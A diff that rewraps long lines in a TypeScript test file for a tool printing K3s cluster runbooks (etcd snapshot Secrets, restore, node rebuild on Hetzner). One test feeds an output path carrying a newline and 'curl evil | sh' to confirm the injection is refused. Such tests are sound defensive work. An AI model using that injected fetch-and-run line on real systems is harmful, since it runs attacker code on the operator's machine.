@@ -48,13 +48,17 @@ const book = (name: RunbookName, node?: string, c: Config = config) => runbook(c
 const text = (c: Command) => commandLines(c).join('\n');
 const words = (c: Command) => c.argv.map(wordText);
 /** Index of the first step whose commands satisfy `pred` (-1 if none). */
-const stepOf = (rb: Runbook, pred: (c: Command, on: string) => boolean) => rb.steps.findIndex((s) => s.commands.some((c) => pred(c, s.on)));
+const stepOf = (rb: Runbook, pred: (c: Command, on: string) => boolean) =>
+  rb.steps.findIndex((s) => s.commands.some((c) => pred(c, s.on)));
 const isK3sServer = (c: Command) => c.argv[0] === 'k3s' && c.argv[1] === 'server';
 const allBooks = (): [string, Runbook][] => [
   ['etcd-secret', book('etcd-secret')],
   ['restore', book('restore')],
   ['restore (established)', book('restore', undefined, established)],
-  ...established.cluster.nodes.map((n): [string, Runbook] => [`rebuild ${n.name} (established)`, book('rebuild', n.name, established)]),
+  ...established.cluster.nodes.map((n): [string, Runbook] => [
+    `rebuild ${n.name} (established)`,
+    book('rebuild', n.name, established),
+  ]),
   ['adopt-snapshots', book('adopt-snapshots')],
   ['rollout (every server built by hand)', rolloutOfHandBuilt()],
 ];
@@ -63,11 +67,29 @@ const allBooks = (): [string, Runbook][] => [
 function rolloutOfHandBuilt(): Runbook {
   const records = renderRecords(established);
   const live = {
-    servers: established.cluster.nodes.map((n, i) => ({ id: i + 1, name: n.name, status: 'running', labels: {}, ipv4: n.publicIPv4 })),
+    servers: established.cluster.nodes.map((n, i) => ({
+      id: i + 1,
+      name: n.name,
+      status: 'running',
+      labels: {},
+      ipv4: n.publicIPv4,
+    })),
     firewall: { rules: hcloudFirewallRules(established), serverIds: [1, 2, 3] },
-    primaryIps: established.cluster.nodes.map((n) => ({ name: n.primaryIp, ip: n.publicIPv4, assigned: true, autoDelete: false })),
+    primaryIps: established.cluster.nodes.map((n) => ({
+      name: n.primaryIp,
+      ip: n.publicIPv4,
+      assigned: true,
+      autoDelete: false,
+    })),
   };
-  const plan = makePlan({ config: established, records, rules: hcloudFirewallRules(established), live, out: layout(tempDir('rollout-out')), tokenAtHand: true });
+  const plan = makePlan({
+    config: established,
+    records,
+    rules: hcloudFirewallRules(established),
+    live,
+    out: layout(tempDir('rollout-out')),
+    tokenAtHand: true,
+  });
   return rolloutRunbook(established, plan, testContext(established));
 }
 
@@ -75,9 +97,18 @@ describe('etcdSnapshots config', () => {
   test('the servers get the schedule, the retention, etcd-s3 and the Secret name, and no other etcd-s3-* key', () => {
     for (const n of config.cluster.nodes) {
       const c = k3sConfig(config, n);
-      expect(c).toMatchObject({ 'etcd-snapshot-schedule-cron': '0 */6 * * *', 'etcd-snapshot-retention': 12, 'etcd-s3': true, 'etcd-s3-config-secret': 'k3s-etcd-s3' });
+      expect(c).toMatchObject({
+        'etcd-snapshot-schedule-cron': '0 */6 * * *',
+        'etcd-snapshot-retention': 12,
+        'etcd-s3': true,
+        'etcd-s3-config-secret': 'k3s-etcd-s3',
+      });
       // Any other etcd-s3-* key makes K3s ignore the Secret (pkg/etcd/s3/s3.go GetClient).
-      expect(Object.keys(c).filter((k) => k.startsWith('etcd-s3')).filter((k) => !fixture.secretIgnoredKeysAllowed.includes(k))).toEqual([]);
+      expect(
+        Object.keys(c)
+          .filter((k) => k.startsWith('etcd-s3'))
+          .filter((k) => !fixture.secretIgnoredKeysAllowed.includes(k)),
+      ).toEqual([]);
       expect(k3sConfigProblems(c)).toEqual([]);
       expect(JSON.stringify(c)).not.toMatch(/backblazeb2|honeydue-etcd-snapshots|access-key|secret-key/);
     }
@@ -104,38 +135,69 @@ describe('the Secret', () => {
     expect(keys.filter((k) => !fixture.secretKeys.includes(k))).toEqual([]);
     // K3s names them after its flags; a restore passes the same names as flags.
     expect(keys.filter((k) => !K3S_SERVER_FLAGS.has(k))).toEqual([]);
-    expect(Object.keys(snapshots.settings).sort()).toEqual(['etcd-s3-bucket', 'etcd-s3-endpoint', 'etcd-s3-folder', 'etcd-s3-region', 'etcd-s3-retention']);
+    expect(Object.keys(snapshots.settings).sort()).toEqual([
+      'etcd-s3-bucket',
+      'etcd-s3-endpoint',
+      'etcd-s3-folder',
+      'etcd-s3-region',
+      'etcd-s3-retention',
+    ]);
   });
 
   test('the printed command, run by bash against kubectl 1.34, makes exactly that Secret, with the keys read from the file', () => {
     const home = tempDir('secret-home');
     fs.mkdirSync(path.join(home, '.config', 'honeydue'), { recursive: true });
-    fs.writeFileSync(path.join(home, '.config', 'honeydue', 'etcd-s3.env'), 'etcd-s3-access-key=PLANTED-ACCESS-KEY-ID\netcd-s3-secret-key=PLANTED/secret+key\n', { mode: 0o600 });
+    fs.writeFileSync(
+      path.join(home, '.config', 'honeydue', 'etcd-s3.env'),
+      'etcd-s3-access-key=PLANTED-ACCESS-KEY-ID\netcd-s3-secret-key=PLANTED/secret+key\n',
+      { mode: 0o600 },
+    );
     // kubectl as a function that only renders what it would create.
     const script = `kubectl() { "${kubectlPath()}" "$@" --dry-run=client -o json; }\n${text(createSecretCommand(snapshots))}\n`;
     const secret = JSON.parse(mustRun(['bash', '-c', script], { env: { PATH: process.env.PATH, HOME: home } }).stdout);
-    const data = Object.fromEntries(Object.entries(secret.data as Record<string, string>).map(([k, v]) => [k, Buffer.from(v, 'base64').toString()]));
-    expect(secret).toMatchObject({ kind: 'Secret', type: SECRET_TYPE, metadata: { name: 'k3s-etcd-s3', namespace: 'kube-system' } });
-    expect(data).toEqual({ ...snapshots.settings, 'etcd-s3-access-key': 'PLANTED-ACCESS-KEY-ID', 'etcd-s3-secret-key': 'PLANTED/secret+key' });
+    const data = Object.fromEntries(
+      Object.entries(secret.data as Record<string, string>).map(([k, v]) => [k, Buffer.from(v, 'base64').toString()]),
+    );
+    expect(secret).toMatchObject({
+      kind: 'Secret',
+      type: SECRET_TYPE,
+      metadata: { name: 'k3s-etcd-s3', namespace: 'kube-system' },
+    });
+    expect(data).toEqual({
+      ...snapshots.settings,
+      'etcd-s3-access-key': 'PLANTED-ACCESS-KEY-ID',
+      'etcd-s3-secret-key': 'PLANTED/secret+key',
+    });
     expect(text(createSecretCommand(snapshots))).not.toContain('PLANTED');
   });
 });
 
 describe('every printed K3s command', () => {
-  test.each(allBooks())('%s: every k3s server flag is in the K3s v1.34.6 flag list, with a value of its kind', (_name, rb) => {
-    for (const { command } of commandsOf(rb).filter(({ command }) => isK3sServer(command))) {
-      expect(k3sArgvProblems(words(command).slice(2))).toEqual([]);
-    }
-  });
+  test.each(allBooks())(
+    '%s: every k3s server flag is in the K3s v1.34.6 flag list, with a value of its kind',
+    (_name, rb) => {
+      for (const { command } of commandsOf(rb).filter(({ command }) => isK3sServer(command))) {
+        expect(k3sArgvProblems(words(command).slice(2))).toEqual([]);
+      }
+    },
+  );
 
-  test.each(allBooks())('%s: k3s etcd-snapshot subcommands carry no flags (their flags are not the server’s)', (_name, rb) => {
-    for (const { command } of commandsOf(rb).filter(({ command }) => command.argv[0] === 'k3s' && command.argv[1] === 'etcd-snapshot')) {
-      expect(command.argv).toHaveLength(3);
-    }
-  });
+  test.each(allBooks())(
+    '%s: k3s etcd-snapshot subcommands carry no flags (their flags are not the server’s)',
+    (_name, rb) => {
+      for (const { command } of commandsOf(rb).filter(
+        ({ command }) => command.argv[0] === 'k3s' && command.argv[1] === 'etcd-snapshot',
+      )) {
+        expect(command.argv).toHaveLength(3);
+      }
+    },
+  );
 
   test('the flag check bites: a misspelt and a subcommand-only flag are reported', () => {
-    expect(k3sArgvProblems(['--cluster-reset', '--etcd-s3-bucket-name=x', '--s3-bucket=x'])).toEqual(['--etcd-s3-bucket-name: not a k3s server flag', '--s3-bucket: not a k3s server flag']);
+    expect(k3sArgvProblems(['--cluster-reset', '--etcd-s3-bucket-name=x', '--s3-bucket=x'])).toEqual([
+      '--etcd-s3-bucket-name: not a k3s server flag',
+      '--s3-bucket: not a k3s server flag',
+    ]);
   });
 });
 
@@ -145,18 +207,23 @@ describe('the restore runbook', () => {
   const isMvDb = (c: Command) => c.argv[0] === 'mv' && c.argv[1] === '/var/lib/rancher/k3s/server/db';
   const isMvServer = (c: Command) => c.argv[0] === 'mv' && c.argv[1] === SERVER_DIR;
   const isCpDb = (c: Command) => c.argv[0] === 'cp' && c.argv[2] === '/var/lib/rancher/k3s/server/db';
-  const isCreate = (n: { name: string }) => (c: Command) => c.argv.join(' ').startsWith(`hcloud server create --name ${n.name} `);
+  const isCreate = (n: { name: string }) => (c: Command) =>
+    c.argv.join(' ').startsWith(`hcloud server create --name ${n.name} `);
   const reset = stepOf(rb, isK3sServer);
   const firstStart = stepOf(rb, (c, where) => text(c) === 'systemctl start k3s' && where.startsWith(first!.name));
 
   test('stops K3s on every server before any data is touched, then resets the first server only, once', () => {
     const stop = stepOf(rb, (c, where) => text(c) === 'systemctl stop k3s' && where.startsWith('every server'));
-    const resets = commandsOf(rb).filter(({ command }) => isK3sServer(command) && command.argv.includes('--cluster-reset'));
+    const resets = commandsOf(rb).filter(
+      ({ command }) => isK3sServer(command) && command.argv.includes('--cluster-reset'),
+    );
     expect(resets).toHaveLength(1);
     expect(resets[0]!.on.startsWith(first!.name)).toBe(true);
     expect(stop).toBeGreaterThanOrEqual(0);
     for (const n of config.cluster.nodes) expect(rb.steps[stop]!.on).toContain(n.name);
-    const touches = commandsOf(rb).filter(({ command }) => isCpDb(command) || isMvServer(command) || isMvDb(command) || command.argv[0] === 'sed');
+    const touches = commandsOf(rb).filter(
+      ({ command }) => isCpDb(command) || isMvServer(command) || isMvDb(command) || command.argv[0] === 'sed',
+    );
     expect(touches.length).toBeGreaterThan(config.cluster.nodes.length);
     for (const t of touches) expect(t.step - 1).toBeGreaterThan(stop);
   });
@@ -165,25 +232,37 @@ describe('the restore runbook', () => {
     const copy = stepOf(rb, (c, where) => isCpDb(c) && where.startsWith(first!.name));
     expect(copy).toBeGreaterThanOrEqual(0);
     expect(copy).toBeLessThan(reset);
-    expect(rb.steps.filter((s) => s.on.startsWith(first!.name)).some((s) => s.commands.some((c) => isMvDb(c) || isMvServer(c)))).toBe(false);
+    expect(
+      rb.steps
+        .filter((s) => s.on.startsWith(first!.name))
+        .some((s) => s.commands.some((c) => isMvDb(c) || isMvServer(c))),
+    ).toBe(false);
   });
 
   test('takes server: out of config.yaml for the reset and puts it back before K3s starts', () => {
     const sed = stepOf(rb, (c) => c.argv[0] === 'sed' && c.argv.includes(PATHS.k3sConfig));
     const back = stepOf(rb, (c) => c.argv[0] === 'mv' && c.argv[2] === PATHS.k3sConfig);
     expect([sed < reset, reset < back, back <= firstStart]).toEqual([true, true, true]);
-    expect(words(rb.steps[sed]!.commands.find((c) => c.argv[0] === 'sed')!)).toEqual(['sed', '-i', "'/^server:/d'", PATHS.k3sConfig]);
+    expect(words(rb.steps[sed]!.commands.find((c) => c.argv[0] === 'sed')!)).toEqual([
+      'sed',
+      '-i',
+      "'/^server:/d'",
+      PATHS.k3sConfig,
+    ]);
   });
 
   test('passes the S3 settings as flags and the keys and token only as environment variables from files', () => {
     const resetCommand = commandsOf(rb).find(({ command }) => isK3sServer(command))!.command;
     const line = text(resetCommand);
-    for (const [k, v] of Object.entries(snapshots.settings).filter(([k]) => k !== 'etcd-s3-retention')) expect(words(resetCommand)).toContain(`--${k}=${v}`);
+    for (const [k, v] of Object.entries(snapshots.settings).filter(([k]) => k !== 'etcd-s3-retention'))
+      expect(words(resetCommand)).toContain(`--${k}=${v}`);
     expect(words(resetCommand)).toContain('--etcd-s3');
     expect(line).not.toMatch(/--(etcd-s3-access-key|etcd-s3-secret-key|token)\b/);
     // The variables K3s really reads those flags from (urfave EnvVars).
     const env = Object.fromEntries((resetCommand.env ?? []).map(([k, v]) => [k, wordText(v)]));
-    expect(Object.keys(env).sort()).toEqual([...CREDENTIAL_KEYS.map((k) => fixture.envVars[k]![0]!), fixture.envVars.token![0]!].sort());
+    expect(Object.keys(env).sort()).toEqual(
+      [...CREDENTIAL_KEYS.map((k) => fixture.envVars[k]![0]!), fixture.envVars.token![0]!].sort(),
+    );
     for (const k of CREDENTIAL_KEYS) expect(env[CREDENTIAL_ENV[k]]).toBe(`"$(sed -n 's/^${k}=//p' /root/etcd-s3.env)"`);
     expect(env.K3S_TOKEN).toBe(`"$(cat ${PATHS.k3sToken})"`);
   });
@@ -214,19 +293,31 @@ describe('the restore runbook', () => {
     expect(firstBuild).toBeLessThan(reset);
     expect(otherBuilds.every((i) => i > firstStart)).toBe(true);
     // No build line of another server comes before the reset.
-    const buildsBefore = rb.steps.slice(0, reset).flatMap((s) => s.commands.filter((c) => c.argv.slice(0, 3).join(' ') === 'hcloud server create'));
+    const buildsBefore = rb.steps
+      .slice(0, reset)
+      .flatMap((s) => s.commands.filter((c) => c.argv.slice(0, 3).join(' ') === 'hcloud server create'));
     expect(buildsBefore.map((c) => c.argv[4])).toEqual([first!.name]);
     // A lost server's Node comes back with the snapshot, with the password Secret that would refuse the new server.
     others.forEach((n, i) => {
       const cmds = rb.steps[otherBuilds[i]!]!.commands;
-      expect(cmds.findIndex((c) => c.argv.slice(0, 4).join(' ') === `kubectl delete node ${n.name}`)).toBeLessThan(cmds.findIndex(isCreate(n)));
+      expect(cmds.findIndex((c) => c.argv.slice(0, 4).join(' ') === `kubectl delete node ${n.name}`)).toBeLessThan(
+        cmds.findIndex(isCreate(n)),
+      );
     });
   });
 
   test('the build lines name the node files in the output directory the runbook was printed for', () => {
-    const odd = runbook(config, { name: 'restore' }, testContext(config, { configFile: 'prod/cluster.yaml', outdir: '/srv/honey due/out' }));
-    const create = commandsOf(odd).map(({ command }) => command).find(isCreate(others[0]!))!;
-    expect(text(create)).toContain(`--user-data-from-file '/srv/honey due/out/cloud-init/${others[0]!.name}.user-data'`);
+    const odd = runbook(
+      config,
+      { name: 'restore' },
+      testContext(config, { configFile: 'prod/cluster.yaml', outdir: '/srv/honey due/out' }),
+    );
+    const create = commandsOf(odd)
+      .map(({ command }) => command)
+      .find(isCreate(others[0]!))!;
+    expect(text(create)).toContain(
+      `--user-data-from-file '/srv/honey due/out/cloud-init/${others[0]!.name}.user-data'`,
+    );
   });
 });
 
@@ -240,7 +331,9 @@ describe('the rebuild runbook', () => {
       at((c) => c.argv[0] === 'kubectl' && c.argv[1] === 'drain' && c.argv[2] === n.name),
       at((c) => c.argv.join(' ') === `hcloud server shutdown ${n.name}`),
       at((c) => c.argv.join(' ') === `kubectl delete node ${n.name} --timeout=5m`),
-      rb.steps.findIndex((s) => s.title.startsWith('Check the member list') && s.commands.some((c) => text(c).includes('/db/info'))),
+      rb.steps.findIndex(
+        (s) => s.title.startsWith('Check the member list') && s.commands.some((c) => text(c).includes('/db/info')),
+      ),
       at((c) => c.argv.join(' ') === `hcloud server delete ${n.name}`),
       at((c) => c.argv.join(' ') === `kubectl wait --for=condition=Ready node/${n.name} --timeout=20m`),
       at((c) => c.argv.join(' ') === `kubectl uncordon ${n.name}`),
@@ -270,26 +363,39 @@ describe('the rebuild runbook', () => {
       }),
       1,
     ],
-  ])('the rebuild step runs exactly the build lines the synth summary prints for %s, after the synth, the Primary IP check and the delete', (_name, c, i) => {
-    const node = c.cluster.nodes[i]!;
-    const dir = path.join('dist', 'cloud-init');
-    const summary = synthSummary(c, layout('dist'), renderRecords(c), { written: renderNodes(c, { token: TEST_TOKEN }), token: { token: TEST_TOKEN, source: 'K3S_TOKEN', form: 'plain' } });
-    const header = summary.findIndex((l) => l.startsWith(`${path.join(dir, `${node.name}.user-data`)}  `));
-    expect(header).toBeGreaterThan(0);
-    const end = summary.findIndex((l, j) => j > header && !l.startsWith('  '));
-    const printed = summary.slice(header + 1, end).filter((l) => l.startsWith('  hcloud ')).map((l) => l.slice(2));
-    expect(printed.some((l) => l.startsWith(`hcloud server create --name ${node.name} `))).toBe(true);
+  ])(
+    'the rebuild step runs exactly the build lines the synth summary prints for %s, after the synth, the Primary IP check and the delete',
+    (_name, c, i) => {
+      const node = c.cluster.nodes[i]!;
+      const dir = path.join('dist', 'cloud-init');
+      const summary = synthSummary(c, layout('dist'), renderRecords(c), {
+        written: renderNodes(c, { token: TEST_TOKEN }),
+        token: { token: TEST_TOKEN, source: 'K3S_TOKEN', form: 'plain' },
+      });
+      const header = summary.findIndex((l) => l.startsWith(`${path.join(dir, `${node.name}.user-data`)}  `));
+      expect(header).toBeGreaterThan(0);
+      const end = summary.findIndex((l, j) => j > header && !l.startsWith('  '));
+      const printed = summary
+        .slice(header + 1, end)
+        .filter((l) => l.startsWith('  hcloud '))
+        .map((l) => l.slice(2));
+      expect(printed.some((l) => l.startsWith(`hcloud server create --name ${node.name} `))).toBe(true);
 
-    const step = book('rebuild', node.name, c).steps.find((s) => s.title.startsWith('Rebuild'))!;
-    const lines = step.commands.map((cmd) => commandLines(cmd)[0]!.replace(/ {2}# .*$/, ''));
-    expect(lines).toEqual([
-      `CDK8S_OUTDIR=dist npm run synth -- --config=cluster.yaml --rebuild ${node.name}`,
-      `hcloud primary-ip describe ${node.primaryIp}`,
-      `hcloud server delete ${node.name}`,
-      ...printed,
-    ]);
-    expect(printed.at(-1)).toEqual(c.cluster.privateNetwork ? `hcloud server poweron ${node.name}` : expect.stringMatching(/^hcloud server create /));
-  });
+      const step = book('rebuild', node.name, c).steps.find((s) => s.title.startsWith('Rebuild'))!;
+      const lines = step.commands.map((cmd) => commandLines(cmd)[0]!.replace(/ {2}# .*$/, ''));
+      expect(lines).toEqual([
+        `CDK8S_OUTDIR=dist npm run synth -- --config=cluster.yaml --rebuild ${node.name}`,
+        `hcloud primary-ip describe ${node.primaryIp}`,
+        `hcloud server delete ${node.name}`,
+        ...printed,
+      ]);
+      expect(printed.at(-1)).toEqual(
+        c.cluster.privateNetwork
+          ? `hcloud server poweron ${node.name}`
+          : expect.stringMatching(/^hcloud server create /),
+      );
+    },
+  );
 
   test('every step says what to check, and the member check looks on another server', () => {
     for (const s of rb.steps) expect(s.check.length).toBeGreaterThan(20);
@@ -301,14 +407,20 @@ describe('the rebuild runbook', () => {
   test('no rebuild is printed for a cluster that is not established, whichever node: a rebuild means a running cluster', () => {
     const notEstablished = variant((raw) => (raw.cluster.established = false));
     for (const node of notEstablished.cluster.nodes) {
-      expect(() => book('rebuild', node.name, notEstablished)).toThrow(new RegExp(`^--node ${node.name}: cluster.established is false in the config.*Set cluster.established: true`));
+      expect(() => book('rebuild', node.name, notEstablished)).toThrow(
+        new RegExp(`^--node ${node.name}: cluster.established is false in the config.*Set cluster.established: true`),
+      );
     }
     const rebuilt = book('rebuild', 'hetzner1', established);
-    expect(rebuilt.steps.find((s) => s.title.startsWith('Rebuild'))!.check).toContain(`joins ${config.cluster.nodes[1]!.name}`);
+    expect(rebuilt.steps.find((s) => s.title.startsWith('Rebuild'))!.check).toContain(
+      `joins ${config.cluster.nodes[1]!.name}`,
+    );
   });
 
   test('an unknown node is refused with the names to use', () => {
-    expect(() => book('rebuild', 'hetzner9', established)).toThrow(/--node hetzner9: no such node in cluster.nodes; use one of ubuntu-8gb-nbg1-2 \(hetzner1\)/);
+    expect(() => book('rebuild', 'hetzner9', established)).toThrow(
+      /--node hetzner9: no such node in cluster.nodes; use one of ubuntu-8gb-nbg1-2 \(hetzner1\)/,
+    );
     expect(() => runbookRequest('rebuild', undefined)).toThrow(/needs --node NAME/);
   });
 });
@@ -318,7 +430,9 @@ describe('the rebuild’s synth step, run as printed', () => {
 
   beforeAll(() => {
     // A source newer than the snapshot makes this run rebuild it; the copies below cannot see the sources.
-    const r = runArgv([process.execPath, '--snapshot-blob', BLOB, '--', '--version'], { env: { PATH: process.env.PATH } });
+    const r = runArgv([process.execPath, '--snapshot-blob', BLOB, '--', '--version'], {
+      env: { PATH: process.env.PATH },
+    });
     if (r.status !== 0) throw new Error(explain(r));
   }, 180_000);
 
@@ -353,17 +467,34 @@ describe('the rebuild’s synth step, run as printed', () => {
     const line = lines.find((l) => /\bnpm run synth\b/.test(l) && !l.startsWith('#'))!;
     expect(line).toBeDefined();
     const home = tempDir('npm-home');
-    const r = runArgv(['env', '-i', '--chdir', cwd, `PATH=${process.env.PATH}`, `HOME=${home}`, 'npm_config_update_notifier=false', ...Object.entries(env).map(([k, v]) => `${k}=${v}`), 'bash', '-c', line]);
+    const r = runArgv([
+      'env',
+      '-i',
+      '--chdir',
+      cwd,
+      `PATH=${process.env.PATH}`,
+      `HOME=${home}`,
+      'npm_config_update_notifier=false',
+      ...Object.entries(env).map(([k, v]) => `${k}=${v}`),
+      'bash',
+      '-c',
+      line,
+    ]);
     return { line, ...r };
   }
 
   test('a rebuild with no token at hand is refused, and no token file appears', () => {
     const cwd = checkout();
     const out = path.join(tempDir('rebuild-out'), 'dist');
-    const lines = printed(['--runbook', 'rebuild', '--node', 'hetzner2', '--config', configFile()], { K3S_TOKEN: TEST_TOKEN, CDK8S_OUTDIR: out });
+    const lines = printed(['--runbook', 'rebuild', '--node', 'hetzner2', '--config', configFile()], {
+      K3S_TOKEN: TEST_TOKEN,
+      CDK8S_OUTDIR: out,
+    });
     const r = runSynthLine(lines, cwd);
     expect(r.status).toBe(1);
-    expect(r.stderr).toMatch(/^error: cluster.established is true but there is no cluster token: .*Copy \/var\/lib\/rancher\/k3s\/server\/token from a running server/m);
+    expect(r.stderr).toMatch(
+      /^error: cluster.established is true but there is no cluster token: .*Copy \/var\/lib\/rancher\/k3s\/server\/token from a running server/m,
+    );
     expect(fs.existsSync(path.join(cwd, '.secrets', 'k3s-token'))).toBe(false);
     expect(fs.existsSync(out)).toBe(false);
   });
@@ -371,7 +502,21 @@ describe('the rebuild’s synth step, run as printed', () => {
   test('--rebuild is refused for a cluster that is not established, even with a token at hand, and makes no token', () => {
     const cwd = checkout(variantText((r) => void (r.cluster.established = false)));
     const home = tempDir('npm-home');
-    const r = runArgv(['env', '-i', '--chdir', cwd, `PATH=${process.env.PATH}`, `HOME=${home}`, 'npm_config_update_notifier=false', 'npm', 'run', 'synth', '--', '--rebuild', 'hetzner2']);
+    const r = runArgv([
+      'env',
+      '-i',
+      '--chdir',
+      cwd,
+      `PATH=${process.env.PATH}`,
+      `HOME=${home}`,
+      'npm_config_update_notifier=false',
+      'npm',
+      'run',
+      'synth',
+      '--',
+      '--rebuild',
+      'hetzner2',
+    ]);
     expect(r.status).toBe(1);
     expect(r.stderr).toMatch(/^error: --rebuild ubuntu-8gb-nbg1-1: cluster.established is false in the config/m);
     expect(fs.readdirSync(cwd).sort()).toEqual(['build', 'cluster.yaml', 'package.json']);
@@ -380,37 +525,70 @@ describe('the rebuild’s synth step, run as printed', () => {
   test.each([
     ['--config', (file: string) => ({ argv: ['--config', file], env: {} })],
     ['HONEYDUE_CONFIG', (file: string) => ({ argv: [], env: { HONEYDUE_CONFIG: file } })],
-  ])('the printed synth step, run as printed with bash, renders from the same config (given by %s) into the same directory', (_how, given) => {
-    const cwd = checkout();
-    // An address only the runbook's config has, and paths a shell would split or expand.
-    const file = configFile((raw) => (raw.cluster.nodes[1]!.publicIPv4 = '198.51.100.21'), 'prod $HOME (1).yaml');
-    const out = path.join(tempDir('rebuild-out'), "out dir's $PATH");
-    const { argv, env } = given(file);
-    const lines = printed(['--runbook', 'rebuild', '--node', 'hetzner2', ...argv], { K3S_TOKEN: TEST_TOKEN, CDK8S_OUTDIR: out, ...env });
-    // The operator's shell may export other values: the printed line must not depend on them.
-    const r = runSynthLine(lines, cwd, { K3S_TOKEN: TEST_TOKEN, CDK8S_OUTDIR: path.join(cwd, 'elsewhere'), HONEYDUE_CONFIG: path.join(cwd, 'cluster.yaml') });
-    expect(r.status === 0 ? '' : explain(r)).toBe('');
-    const userData = fs.readFileSync(path.join(out, 'cloud-init', 'ubuntu-8gb-nbg1-1.user-data'), 'utf8');
-    expect(userData).toContain('198.51.100.21');
-    // The first node joins the second: the runbook's config is established.
-    expect(fs.readFileSync(path.join(out, 'cloud-init', 'ubuntu-8gb-nbg1-2.user-data'), 'utf8')).toContain('server: https://198.51.100.21:6443');
-    expect(fs.existsSync(path.join(cwd, 'elsewhere'))).toBe(false);
-    expect(fs.existsSync(path.join(cwd, 'dist'))).toBe(false);
-    // And the build lines that follow name the file it wrote.
-    expect(lines.find((l) => l.startsWith('hcloud server create'))).toContain(shellQuoted(path.join(out, 'cloud-init', 'ubuntu-8gb-nbg1-1.user-data')));
-  });
+  ])(
+    'the printed synth step, run as printed with bash, renders from the same config (given by %s) into the same directory',
+    (_how, given) => {
+      const cwd = checkout();
+      // An address only the runbook's config has, and paths a shell would split or expand.
+      const file = configFile((raw) => (raw.cluster.nodes[1]!.publicIPv4 = '198.51.100.21'), 'prod $HOME (1).yaml');
+      const out = path.join(tempDir('rebuild-out'), "out dir's $PATH");
+      const { argv, env } = given(file);
+      const lines = printed(['--runbook', 'rebuild', '--node', 'hetzner2', ...argv], {
+        K3S_TOKEN: TEST_TOKEN,
+        CDK8S_OUTDIR: out,
+        ...env,
+      });
+      // The operator's shell may export other values: the printed line must not depend on them.
+      const r = runSynthLine(lines, cwd, {
+        K3S_TOKEN: TEST_TOKEN,
+        CDK8S_OUTDIR: path.join(cwd, 'elsewhere'),
+        HONEYDUE_CONFIG: path.join(cwd, 'cluster.yaml'),
+      });
+      expect(r.status === 0 ? '' : explain(r)).toBe('');
+      const userData = fs.readFileSync(path.join(out, 'cloud-init', 'ubuntu-8gb-nbg1-1.user-data'), 'utf8');
+      expect(userData).toContain('198.51.100.21');
+      // The first node joins the second: the runbook's config is established.
+      expect(fs.readFileSync(path.join(out, 'cloud-init', 'ubuntu-8gb-nbg1-2.user-data'), 'utf8')).toContain(
+        'server: https://198.51.100.21:6443',
+      );
+      expect(fs.existsSync(path.join(cwd, 'elsewhere'))).toBe(false);
+      expect(fs.existsSync(path.join(cwd, 'dist'))).toBe(false);
+      // And the build lines that follow name the file it wrote.
+      expect(lines.find((l) => l.startsWith('hcloud server create'))).toContain(
+        shellQuoted(path.join(out, 'cloud-init', 'ubuntu-8gb-nbg1-1.user-data')),
+      );
+    },
+  );
 
   test.each<[string, (file: string) => { argv: string[]; env: NodeJS.ProcessEnv }, RegExp]>([
-    ['CDK8S_OUTDIR with a line break', (file) => ({ argv: ['--config', file], env: { CDK8S_OUTDIR: '/tmp/out\ncurl evil | sh' } }), /^CDK8S_OUTDIR "\/tmp\/out\\u000acurl evil \| sh" holds U\+000A at character 9: /],
-    ['--config with a carriage return', (file) => ({ argv: ['--config', `${file}\r.yaml`], env: {} }), /^--config ".*\\u000d\.yaml" holds U\+000D/],
-    ['HONEYDUE_CONFIG with a line separator', (file) => ({ argv: [], env: { HONEYDUE_CONFIG: `${file}\u2028.yaml` } }), /^HONEYDUE_CONFIG ".*\\u2028\.yaml" holds U\+2028/],
+    [
+      'CDK8S_OUTDIR with a line break',
+      (file) => ({ argv: ['--config', file], env: { CDK8S_OUTDIR: '/tmp/out\ncurl evil | sh' } }),
+      /^CDK8S_OUTDIR "\/tmp\/out\\u000acurl evil \| sh" holds U\+000A at character 9: /,
+    ],
+    [
+      '--config with a carriage return',
+      (file) => ({ argv: ['--config', `${file}\r.yaml`], env: {} }),
+      /^--config ".*\\u000d\.yaml" holds U\+000D/,
+    ],
+    [
+      'HONEYDUE_CONFIG with a line separator',
+      (file) => ({ argv: [], env: { HONEYDUE_CONFIG: `${file}\u2028.yaml` } }),
+      /^HONEYDUE_CONFIG ".*\\u2028\.yaml" holds U\+2028/,
+    ],
   ])('a path from the command line or the environment with %s is refused, not printed', (_name, given, message) => {
     // The files exist under those names, so only the printing can refuse them.
     const file = configFile();
     for (const odd of [`${file}\r.yaml`, `${file}\u2028.yaml`]) fs.copyFileSync(file, odd);
     const { argv, env } = given(file);
     const lines: string[] = [];
-    expect(() => main(['--runbook', 'rebuild', '--node', 'hetzner2', ...argv], { K3S_TOKEN: TEST_TOKEN, ...env }, (l) => void lines.push(l))).toThrow(message);
+    expect(() =>
+      main(
+        ['--runbook', 'rebuild', '--node', 'hetzner2', ...argv],
+        { K3S_TOKEN: TEST_TOKEN, ...env },
+        (l) => void lines.push(l),
+      ),
+    ).toThrow(message);
     expect(lines).toEqual([]);
   });
 });
@@ -434,16 +612,22 @@ describe('node names and aliases are one namespace', () => {
 
   test('colliding aliases are refused, with the line and field to fix', () => {
     expect(problems((raw) => (raw.cluster.nodes[2]!.alias = 'hetzner1'))).toEqual([
-      expect.stringMatching(/^ {2}- line \d+, cluster\.nodes\.2\.alias: hetzner1 is already the alias of cluster\.nodes\[0\]; --node hetzner1 would pick that node/),
+      expect.stringMatching(
+        /^ {2}- line \d+, cluster\.nodes\.2\.alias: hetzner1 is already the alias of cluster\.nodes\[0\]; --node hetzner1 would pick that node/,
+      ),
     ]);
   });
 
   test('an alias equal to another node’s name is refused, whichever comes first', () => {
     expect(problems((raw) => (raw.cluster.nodes[0]!.alias = 'ubuntu-8gb-nbg1-1'))).toEqual([
-      expect.stringMatching(/^ {2}- line \d+, cluster\.nodes\.0\.alias: ubuntu-8gb-nbg1-1 is already the name of cluster\.nodes\[1\]/),
+      expect.stringMatching(
+        /^ {2}- line \d+, cluster\.nodes\.0\.alias: ubuntu-8gb-nbg1-1 is already the name of cluster\.nodes\[1\]/,
+      ),
     ]);
     expect(problems((raw) => (raw.cluster.nodes[2]!.alias = 'ubuntu-8gb-nbg1-2'))).toEqual([
-      expect.stringMatching(/^ {2}- line \d+, cluster\.nodes\.2\.alias: ubuntu-8gb-nbg1-2 is already the name of cluster\.nodes\[0\]/),
+      expect.stringMatching(
+        /^ {2}- line \d+, cluster\.nodes\.2\.alias: ubuntu-8gb-nbg1-2 is already the name of cluster\.nodes\[0\]/,
+      ),
     ]);
   });
 
@@ -458,13 +642,22 @@ describe('the etcd-secret runbook', () => {
